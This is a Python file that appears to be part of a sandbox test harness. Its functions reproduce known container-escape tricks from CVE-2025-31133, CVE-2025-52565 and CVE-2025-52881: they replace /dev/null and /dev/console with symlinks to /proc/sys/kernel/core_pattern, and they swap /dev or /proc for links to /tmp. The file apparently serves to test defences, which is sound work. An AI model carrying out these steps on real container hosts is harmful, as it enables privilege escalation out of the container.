"""Attacks on /dev and /proc by their names: what whoever prepares a world would then write to, or mount on.

Where they work each has a /dev and a /proc of its own to replace.
"""

from __future__ import annotations

import os

from trying import call, main, named


def _own() -> None:
    """A root with plain directories, where the attack is shown to work."""
    if os.environ.get("OWN_NAMESPACES"):
        call("mount", b"x", b"/tmp", b"tmpfs", 0, None)
        for name in ("dev", "proc"):
            os.mkdir(f"/tmp/{name}")
        call("chroot", b"/tmp")
        for name in ("null", "console"):
            os.close(os.open(f"/dev/{name}", os.O_CREAT))


def replace_a_device() -> object:
    """CVE-2025-31133 and CVE-2025-52565 took /dev/null and /dev/console for a link of theirs."""
    _own()
    for name in ("null", "console"):
        os.symlink("/proc/sys/kernel/core_pattern", f"/dev/{name}.new")
        os.rename(f"/dev/{name}.new", f"/dev/{name}")
    return "replaced"


def replace_dev() -> object:
    _own()
    os.rename("/dev", "/dev.old")
    os.symlink("/tmp", "/dev")
    return "replaced"


def replace_proc() -> object:
    """CVE-2025-52881 had writes to /proc/self/attr land elsewhere."""
    _own()
    os.rename("/proc", "/proc.old")
    os.symlink("/tmp", "/proc")
    return "replaced"


ATTACKS = named(globals(), __name__)

if __name__ == "__main__":
    main(ATTACKS)
